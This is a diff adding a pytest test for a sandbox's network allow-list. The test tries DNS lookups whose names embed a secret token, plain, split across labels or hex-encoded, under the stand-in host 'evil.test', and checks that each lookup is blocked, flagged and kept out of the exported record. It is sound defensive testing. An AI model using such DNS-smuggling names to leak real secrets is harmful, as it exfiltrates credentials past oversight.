@@ -244,3 +244,21 @@ for name in ("www.example.test", "placeholder.-zyxwvutsrq.x.example.test", "x.pl
 """
     assert sandbox.python(code).split() == ["found", "none", "none"]
     allow.wait_for(kind="dns", name="x.placeholder-zyx.wvutsrq.example.test", reason="secret-in-name")
+
+
+def test_no_secret_comes_into_the_record_by_a_name(sandbox: Sandbox, allow: Allow) -> None:
+    """The record is exported to other programs, and outlives the session."""
+    allow(Rule(API, 443, ORIGIN), entrusted=Entrusted((brokered(),)))
+    names = (f"{REAL}.evil.test", REAL, f"x.{REAL[:9]}.{REAL[9:]}.test", REAL.encode().hex() + ".evil.test")
+    code = f"""
+for name in {names}:
+    try: socket.getaddrinfo(name, 443); print("found")
+    except OSError: print("none")
+"""
+    assert sandbox.python(code).split() == ["none"] * 4
+    allow.wait_for(kind="dns", name="*", reason="secret-in-name")
+    allow.wait_for(kind="dns", name="*.evil.test", reason="secret-in-name")
+    written = json.dumps(allow.lines())
+    assert REAL not in written
+    assert REAL[9:] not in written
+    assert REAL.encode().hex() not in written
